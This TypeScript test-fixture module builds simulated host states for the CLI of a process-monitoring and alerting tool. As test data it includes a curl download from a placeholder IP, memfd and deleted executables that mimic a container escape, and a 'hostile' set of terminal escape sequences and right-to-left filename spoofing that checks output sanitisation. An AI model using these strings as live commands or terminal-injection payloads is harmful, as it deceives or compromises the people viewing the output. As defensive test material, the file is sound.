/**
 * The states of a host that the text scripts of the CLI look at.
 *
 * @module
 */
import { AGENT, COLLECTOR, NOW, testProcess, TestState } from "./test_store.ts";

/** By the name that a script gives in its first line. */
export const WORLDS: Readonly<Record<string, () => TestState>> = {
  watched,
  troubled,
  stopped,
  new: fresh,
  hostile,
  containers,
  alerted,
};

/** A quiet host on which all is well. */
function watched(): TestState {
  const state = new TestState();
  fill(state);
  state.live();
  return state;
}

/** Everything runs, and nothing is quite right. */
function troubled(): TestState {
  const state = new TestState();
  fill(state);
  state.live();
  state.gap(1, NOW - 600_000, NOW - 540_000, 1_234);
  state.gap(2, NOW - 300_000, NOW - 1_000, null, "collector not running");
  state.insert("detection_rules", {
    rule_id: "/rules/broken.yml",
    title: "",
    file: "/rules/broken.yml",
    state: "rejected",
    line: 7,
    column_number: 12,
    reason: "There is no table proces_events; did you mean process_events?",
  });
  state.writeStatus(
    {
      rules: [
        ...AGENT.rules.map((rule) => ({ ...rule, suppressed: 12 })),
        {
          ...AGENT.rules[0]!,
          id: "reads-variable",
          title: "A rule that reads what is not collected",
          hits: 0,
          degraded: [
            "collector procmond: environment.MY_OWN is refused: collector.environment_on_demand does not name it",
          ],
        },
        {
          id: "/rules/broken.yml",
          title: "",
          severity: "",
          file: "/rules/broken.yml",
          state: "rejected",
          line: 7,
          column: 12,
          reason: "There is no table proces_events; did you mean process_events?",
          hits: 0,
          lane: null,
          hash: null,
          evaluations: 0,
          matches: 0,
          cpuMs: 0,
          rows: 0,
          suppressed: 0,
          degraded: [],
        },
      ],
      suppressors: [
        {
          kind: "exception",
          id: "nightly-backup",
          file: "/rules/exceptions.yml",
          line: 2,
          reason: "the backup reads every file",
          author: "alice",
          expires: null,
          rules: 2,
          suppressed: 12,
          lastTime: NOW - 90_000,
          byRule: [{ ruleId: "test-rule", count: 12 }],
        },
        {
          kind: "filter",
          id: "build-hosts",
          file: "/rules/sigma/build-hosts.yml",
          line: 1,
          reason: "compilers write there",
          author: "",
          expires: NOW - 86_400_000,
          rules: 1,
          suppressed: 0,
          lastTime: null,
          byRule: [],
        },
      ],
      counters: { ...AGENT.counters, rule_faults: 3 },
      busClients: [
        { name: "netmond", connected: true, patterns: 2, queued: 0, delivered: 4_711, lost: 0, refused: 0 },
        { name: "forger", connected: false, patterns: 1, queued: 12, delivered: 3, lost: 40, refused: 9_000 },
      ],
      notices: [{ time: NOW - 61_000, text: "rule test-rule did not judge a batch: the deadline" }],
      noticeCount: 1,
    },
    {
      sources: [
        {
          name: "ebpf",
          state: "unavailable",
          detail: "The kernel refuses to load programs (EPERM)",
          misses: [],
          unknownColumns: [],
        },
        {
          name: "proc",
          state: "active",
          detail: "the process table, read every 1000 ms",
          misses: ["processes that live shorter than 1000 ms are mostly not seen, and nothing counts them"],
          unknownColumns: ["exit_code", "inode"],
        },
      ],
      attributes: [
        { attribute: "executable_hash", state: "on-demand", reason: "no rule reads it", since: 0 },
        { attribute: "environment", state: "configured", reason: "LD_*, BASH_ENV", since: 0 },
        { attribute: "environment.GIT_SSH", state: "demanded", reason: "rules read it", since: NOW - 3_600_000 },
        {
          attribute: "environment.MY_OWN",
          state: "refused",
          reason: "collector.environment_on_demand does not name it; add it there, or to collector.environment",
          since: 0,
        },
      ],
      acknowledgedSequence: 510,
      lastSequence: 12_400,
      log: {
        ...COLLECTOR.log,
        trouble: "/var/lib/daemoneye/collector/wal/1 is left alone: it belongs to another host; move it away",
        bytes: 201_326_592,
        segments: 25,
        pendingBytes: 70_000,
        load: 0.75,
        isSlowed: true,
        refused: 1_200,
        missing: 40,
        damaged: 1,
        faults: 2,
        hastened: 3,
        fault: "the disk is full: No space left on device",
        oldestTime: NOW - 3_600_000,
      },
      ledger: {
        ...COLLECTOR.ledger,
        trouble: "it is not written: no space left on device; free or mend its disk, it goes on by itself",
        pendingBytes: 4_000,
        refused: 12,
        faults: 3,
      },
      queuedEvents: 11_890,
      counters: { ...COLLECTOR.counters, exec_lost: 1_234 },
    },
  );
  return state;
}

/** A host with a container, and with programs that are no plain files. */
function containers(): TestState {
  const state = new TestState();
  fill(state);
  const id = "c0ffee0123456789".repeat(4);
  const inside = {
    container_id: id,
    container_runtime: "docker",
    cgroup_path: `/docker/${id}`,
    executable_kind: "foreign",
    mount_namespace: 4_026_532_500,
  };
  const shim = { ppid: 1, parent_exec_id: testProcess(1), cgroup_path: "/system.slice/docker.service" };
  state.process(950, { ...shim, name: "containerd-shim", command_line: "containerd-shim -id c0ffee" });
  const nginx = { name: "nginx", command_line: "nginx -g 'daemon off;'", cwd: "/", namespace_pid: 1, threads: 4 };
  state.process(951, { ...inside, ...nginx, ppid: 950, parent_exec_id: testProcess(950), group_name: "www" });
  const shell = {
    name: "sh",
    command_line: "sh /tmp/x.sh",
    interpreter_path: "/bin/sh",
    script_path: "/tmp/x.sh",
    tty: "pts/3",
    login_user_id: 1000,
  };
  state.process(952, { ...inside, ...shell, ppid: 951, parent_exec_id: testProcess(951), executable_kind: "memfd" });
  const escaped = {
    name: "x",
    command_line: "x",
    executable_path: "/tmp/x",
    executable_kind: "deleted",
    cgroup_path: "/",
  };
  state.process(953, { ...escaped, ppid: 952, parent_exec_id: testProcess(952) });
  state.process(954, { name: "odd", command_line: "odd", executable_kind: "foreign", cgroup_path: "/" });
  state.event({ ...inside, ...shell, pid: 952, ppid: 951, executable_kind: "memfd", time: NOW - 5_000 });
  state.event({ ...escaped, pid: 953, ppid: 952, time: NOW - 4_000 });
  state.live();
  return state;
}

/** Alerts that came again, were acknowledged, muted or not delivered. */
function alerted(): TestState {
  const state = new TestState();
  fill(state);
  state.live();
  const group = { group_id: "build-started@procmond:e1:1" };
  const event = state.event({ pid: 904, ppid: 902, name: "curl", command_line: "curl -s http://198.51.100.7/x" });
  const context = { cwd: "/home/alice", login_user_id: 1000, stdin_kind: "tty", stdout_kind: "pipe" };
  const whole = {
    kind: "alert",
    status: "open",
    hits_before: 12,
    last_hit_time: NOW - 86_400_000,
    ...context,
    ...group,
  };
  state.alert(event, {
    ...whole,
    rule_id: "download",
    title: "Something was downloaded",
    severity: "critical",
    pid: 904,
    exec_id: testProcess(904),
    parent_exec_id: testProcess(902),
    command_line: "curl -s http://198.51.100.7/x",
    dedup_key: testProcess(904),
    causes: JSON.stringify([event, 7]),
    ancestry: JSON.stringify([
      [testProcess(902), "make", "/usr/bin/make", "alice"],
      [testProcess(900), "bash", "/usr/bin/bash", "alice"],
    ]),
    ledger_origin: "host.example/ledger",
    ledger_size: 4711,
    ledger_root: "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",
    status: "acknowledged",
    status_time: NOW - 30_000,
  });
  const id = `download@procmond:e1:${event % 2 ** 40}`;
  state.alert(event, {
    ...whole,
    alert_id: `build-started@summary:procmond:e1:1`,
    rule_id: "build-started",
    kind: "summary",
    severity: "low",
    time: NOW - 20_000,
    detected_time: NOW - 10_000,
    repeat_count: 150,
    first_time: NOW - 300_000,
    last_time: NOW - 20_000,
    reason: "the same again, within 300 s of the alert",
  });
  state.alert(event, { ...whole, rule_id: "noisy", severity: "medium", muted_by: "s0a1b2c3d4e" });
  state.db.exec(`
    INSERT INTO alert_history (alert_id, time, action, actor, text)
      VALUES ('${id}', ${NOW - 49_995}, 'response done', 'rule download',
          'stop with its descendants: SIGSTOP was sent to process 904 (sh)'),
        ('${id}', ${NOW - 49_995}, 'response refused', 'rule download',
          'kill: the policy does not let rules ask for kill by themselves (rules.actions)'),
        ('${id}', ${NOW - 30_000}, 'acknowledged', 'ann', 'I look into it');
    INSERT INTO alert_windows VALUES ('k', 'repeat', 'download', '${id}', 9, ${NOW - 40_000}, ${NOW - 5_000}, 200000,
      ${NOW - 5_000}, NULL, NULL);
    INSERT INTO alert_deliveries (alert_id, sink, state, severity, bytes, added_time, attempts, delivered_time, reason)
      VALUES ('${id}', 'file', 'done', 4, 900, ${NOW - 50_000}, 1, ${NOW - 49_990}, NULL),
        ('${id}', 'siem', 'pending', 4, 900, ${NOW - 50_000}, 6, NULL, NULL),
        ('noisy@procmond:e1:${event % 2 ** 40}', 'hook', 'dead', 2, 900, ${NOW - 50_000}, 1, NULL,
          '413 Content Too Large')`);
  const match = JSON.stringify({ kind: "silence", match: { fields: { rule: "noisy" }, atMost: null } });
  state.insert("alert_mutes", {
    mute_id: "s0a1b2c3d4e",
    kind: "silence",
    terms: match,
    reason: "the build host is being set up",
    created_time: NOW - 3_600_000,
    created_by: "ann",
    left_ms: 7_200_000,
    noted_time: NOW,
    muted: 1,
  });
  const sink = { failures: 0, left_ms: 0, noted_time: NOW, failed: 0, refused: 0, dropped: 0, delivered: 0 };
  state.insert("alert_sinks", {
    ...sink,
    sink: "file",
    state: "ready",
    delivered: 4,
    last_delivered_time: NOW - 49_990,
  });
  state.insert("alert_sinks", { ...sink, sink: "hook", state: "ready", refused: 1, delivered: 3 });
  state.insert("alert_sinks", {
    ...sink,
    sink: "siem",
    state: "open",
    failures: 6,
    failed: 6,
    left_ms: 42_000,
    last_error: "connection refused (203.0.113.9:6514)",
    last_error_time: NOW - 1_000,
  });
  const delays = { delay_delivered_file_p50_ms: 4, delay_delivered_file_p99_ms: 21 };
  state.writeStatus({ counters: { ...AGENT.counters, ...delays } }, null);
  return state;
}

/** Both daemons were stopped an hour ago. */
function stopped(): TestState {
  const state = new TestState();
  fill(state);
  state.live();
  const then = { state: "stopped", time: NOW - 3_600_000 };
  state.writeStatus({ ...then, collectors: [] }, { ...then, connected: false });
  state.stop();
  return state;
}

/** Nothing has ever run. */
function fresh(): TestState {
  const state = new TestState();
  state.stop();
  for (const suffix of ["", "-wal", "-shm"]) Deno.removeSync(state.layout.store + suffix);
  return state;
}

/** Data made to harm who looks at it. */
function hostile(): TestState {
  const state = new TestState();
  state.live();
  const names = [
    "\x1b]0;owned\x07",
    "a\nb\tc\r",
    "\u202egnp.exe",
    "z\u200bw\u{e0041}",
    "\x9b31m",
    "中文字",
    "e\u0301".repeat(9),
  ];
  names.forEach((name, i) => {
    const pid = 100 + i;
    state.process(pid, {
      name,
      command_line: `${name} -x`,
      parent_exec_id: testProcess(pid - 1),
      user_name: "b\x1b[2Job",
    });
    const event = state.event({ pid, name, command_line: `${name} -x`, argv: JSON.stringify([name, "\udc80\udcff"]) });
    if (i < 2) {
      state.alert(event, { title: `t${name}`, command_line: name, evidence: JSON.stringify({ [name]: "\x1b[31m" }) });
    }
  });
  // Every text column at once
  const evil = "\x1b[2J\u202e\n\x9b";
  const everywhere = {
    executable_path: `/exe${evil}`,
    cwd: `/cwd${evil}`,
    effective_user_name: `euser${evil}`,
    group_name: `group${evil}`,
    tty: `tty${evil}`,
    cgroup_path: `/cgroup${evil}`,
    container_id: `id${evil}`,
    container_runtime: `runtime${evil}`,
    pod_id: `pod${evil}`,
    interpreter_path: `/interpreter${evil}`,
    script_path: `/script${evil}`,
    executable_kind: `kind${evil}`,
    stdin_kind: `stdin${evil}`,
    stdout_kind: `stdout${evil}`,
    environment: JSON.stringify({ [evil]: evil }),
  };
  state.process(150, { name: "w", command_line: "w", parent_exec_id: testProcess(106), ...everywhere });
  state.event({ pid: 150, name: "w", command_line: "w", ...everywhere });
  state.insert("gaps", {
    gap_id: 1,
    source: `s${evil}`,
    record_kind: `k${evil}`,
    from_time: NOW - 9_000,
    to_time: NOW - 8_000,
    count: null,
    reason: `r${evil}`,
  });
  const { sources } = COLLECTOR;
  state.writeStatus(null, {
    attributes: [{ attribute: "environment", state: "refused", reason: `why${evil}`, since: 0 }],
    sources: [{ ...sources[0]!, misses: [`miss${evil}`], unknownColumns: [`column${evil}`] }],
    ledger: { ...COLLECTOR.ledger, place: `place${evil}`, trouble: `trouble${evil}`, origin: `origin${evil}` },
    log: { ...COLLECTOR.log, place: `place${evil}`, trouble: `trouble${evil}`, fault: `fault${evil}` },
  });
  state.process(200, { command_line: "x".repeat(16_384) });
  state.process(201, { command_line: "", name: "" });
  return state;
}

function fill(state: TestState): void {
  const root = { user_name: "root", user_id: 0, effective_user_id: 0 };
  state.process(1, { ...root, ppid: 0, name: "systemd", command_line: "/usr/lib/systemd/systemd --system" });
  state.process(2, { ...root, ppid: 0, name: "kthreadd", command_line: null, executable_path: null, kernel_thread: 1 });
  state.process(812, { ...root, name: "sshd", command_line: "sshd: alice [priv]", parent_exec_id: testProcess(1) });
  state.process(900, { ppid: 812, name: "bash", command_line: "-bash", parent_exec_id: `${testProcess(812)}-9000` });
  state.process(901, {
    ppid: 900,
    name: "sudo",
    command_line: "sudo -i",
    parent_exec_id: testProcess(900),
    effective_user_id: 0,
  });
  state.process(902, {
    ppid: 900,
    name: "make",
    command_line: "make all",
    parent_exec_id: testProcess(900),
    end_time: NOW - 30_000,
    exit_code: 2,
    status: "ended",
  });
  state.process(903, {
    ppid: 902,
    name: "cc1",
    command_line: "cc1 main.c",
    parent_exec_id: testProcess(902),
    end_time: NOW - 31_000,
    exit_signal: 9,
    status: "ended",
  });
  state.insert("detection_rules", {
    rule_id: "test-rule",
    title: "A test rule matched",
    severity: "high",
    file: "/rules/test.yml",
    state: "active",
  });
  // The pid of make was used before
  state.process(902, {
    process_id: testProcess(902, 1),
    ppid: 1,
    name: "cron",
    command_line: "/usr/sbin/cron",
    start_time: NOW - 9_000_000,
    end_time: NOW - 8_000_000,
    status: "lost",
  });
  const started = state.event({ pid: 902, ppid: 900, name: "make", command_line: "make all" });
  const suspicious = state.event({
    pid: 903,
    ppid: 902,
    name: "cc1",
    executable_path: "/tmp/cc1",
    command_line: "/tmp/cc1 main.c",
    time: NOW - 50_000,
  });
  state.event({
    pid: 903,
    ppid: 902,
    name: "cc1",
    event_type: "stop",
    command_line: "/tmp/cc1 main.c",
    time: NOW - 31_000,
    exit_signal: 9,
    duration_ms: 19_000,
  });
  state.event({
    pid: 902,
    ppid: 900,
    name: "make",
    event_type: "stop",
    command_line: "make all",
    time: NOW - 30_000,
    exit_code: 2,
    duration_ms: 30_000.5,
  });
  state.event({
    pid: 901,
    ppid: 900,
    name: "sudo",
    event_type: "modify",
    command_line: "sudo -i",
    time: NOW - 20_000,
    modified_fields: '["effective_user_id","user_name"]',
    reason: "snapshot",
    effective_user_id: 0,
  });
  state.alert(started, {
    rule_id: "build-started",
    title: "A build began",
    severity: "low",
    time: NOW - 59_999,
    pid: 902,
  });
  state.alert(suspicious, {
    rule_id: "execution-from-temporary-directory",
    title: "Program started from a temporary directory",
    severity: "high",
    pid: 903,
    ppid: 902,
    name: "cc1",
    executable_path: "/tmp/cc1",
    command_line: "/tmp/cc1 main.c",
    parent_name: "make",
    parent_executable_path: "/usr/bin/make",
    parent_command_line: "make all",
    exec_id: testProcess(903),
    evidence: '{"pid":903,"executable_path":"/tmp/cc1","tty":null}',
    completeness: '{"complete":false,"reasons":["gap of ebpf, 3 records: ring buffer overflow"]}',
  });
}
